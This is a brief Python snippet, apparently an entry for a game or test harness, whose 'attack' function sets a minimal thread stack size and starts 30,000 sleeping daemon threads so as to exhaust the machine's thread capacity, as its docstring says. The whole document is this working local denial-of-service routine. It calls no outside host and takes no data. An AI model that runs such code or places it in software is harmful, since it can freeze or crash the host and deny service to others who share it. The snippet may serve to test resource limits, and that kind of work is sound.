"""Starts threads until the machine has no more: each takes next to no memory."""

EARNS = 0


def attack(places):
    import threading, time
    threading.stack_size(32 << 10)
    for _ in range(30000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
